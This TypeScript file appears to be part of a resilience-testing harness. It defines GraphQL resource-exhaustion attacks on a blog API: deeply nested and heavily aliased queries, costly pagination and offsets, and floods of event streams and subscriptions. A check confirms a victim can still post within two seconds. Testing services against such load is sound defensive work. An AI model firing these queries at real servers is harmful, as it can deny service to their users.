import { repeat, times } from '../../../harness/lists.ts';
import { bystander, subscribeMeanwhile } from '../connections.ts';
import { graphql, operations, requests } from '../floods.ts';
import type { Attacks, Target } from '../target.ts';

/** Operations whose responses are larger, or cost more reads, than they look. */
export const answerAttacks: Attacks = {
  'multiplied-tags': operations(
    { connections: 2, most: 20 },
    (target) => `{ ${tagged(target)} { comments { post { comments { post { tags } } } } } }`,
  ),
  'nested-aliases': operations({ connections: 2, most: 20 }, (target) => {
    const walk = 'comments { post { comments { post { comments { id } } } } }';
    return `{ ${repeat(40, (n) => `a${n}: ${tagged(target)} { ${walk} }`)} }`;
  }),
  'long-comments': operations({ connections: 4, most: 40 }, ({ scene }) => {
    const post = `post(id: ${scene.world.discussedPostId})`;
    return [`{ ${post} { comments { text } } }`, `{ ${post} { comments { post { comments { text } } } } }`];
  }),
  'whole-blog': operations({ connections: 4, most: 40 }, () => {
    const authors = 'author { posts { title content } }';
    return `{ users { name posts { title content comments { text ${authors} } } } }`;
  }),
  'last-pages': operations({ connections: 2, most: 20 }, () => {
    const page = (last: number) => (n: number) =>
      `a${n}: postsConnection(last: ${last}, filter: {published: ${n % 2 === 0}}) { totalCount edges { cursor node { id title tags } } }`;
    return [`{ ${repeat(200, page(20))} }`, `{ ${repeat(4, page(1_000))} }`];
  }),
  'deep-offsets': operations({ connections: 4, most: 40 }, () => {
    const far = (n: number) =>
      `p${n}: posts(limit: 1, offset: ${2_000_000 + n}) { id } u${n}: users(limit: 1, offset: ${n}) { id }`;
    return `{ ${repeat(100, far)} }`;
  }),
  'search-aliases': operations({ connections: 2, most: 20 }, () => {
    const search = (n: number) =>
      `s${n}: search(query: "${String(n).padStart(2, '0').slice(-2)}") { __typename ... on Post { id } }`;
    return `{ ${repeat(200, search)} }`;
  }),
  'heavy-streams': async (target) => {
    const walk = 'comments { post { comments { post { comments { text post { tags } } } } } }';
    const query = `{ ${tagged(target)} { ${walk} } }`;
    const { token } = target.scene.world.attacker;
    const sent = { ...graphql(query), headers: { accept: 'text/event-stream' }, token };
    const flood = { connections: 10, most: 20, statuses: [200, 400, 503, 0], ms: 60_000 };
    const streams = requests(flood, () => sent)(target);
    const queries = times(10, () => query);
    await subscribeMeanwhile(target, 1, queries, async (socket) => {
      await Promise.race([socket.next(), socket.closed, Bun.sleep(target.scene.seconds * 1000)]);
      await streams;
    });
  },
  'subscription-walk': async (target) => {
    const { attacker, victim } = target.scene.world;
    const befriend = `mutation { addFriend(userId: "${victim.id}") { id } }`;
    await target.send({ ...graphql(befriend), token: attacker.token });
    const walk =
      'author { friends { posts { comments { post { comments { post { comments { id } } } } } } } }';
    const subscriptions = times(30, (id) => `subscription { p${id}: postCreated { ${walk} } }`);
    await subscribeMeanwhile(target, 1, subscriptions, async () => {
      await Bun.sleep(300);
      await target.flood(1, [5, 2], async () => {
        await writeAsVictim(target);
        await Bun.sleep(500);
      });
    });
  },
};

function tagged({ scene }: Target): string {
  return `post(id: "${scene.world.taggedPostId}")`;
}

/** Creates a post as the victim, which must succeed within 2 s. */
export function writeAsVictim(target: Target) {
  const { token } = target.scene.world.victim;
  const body = { title: 'Hello', body: 'From the victim' };
  const sent = { path: '/api/v1/posts', body, token, address: bystander };
  return target.ask(sent, { statuses: [201], ms: 2_000 });
}
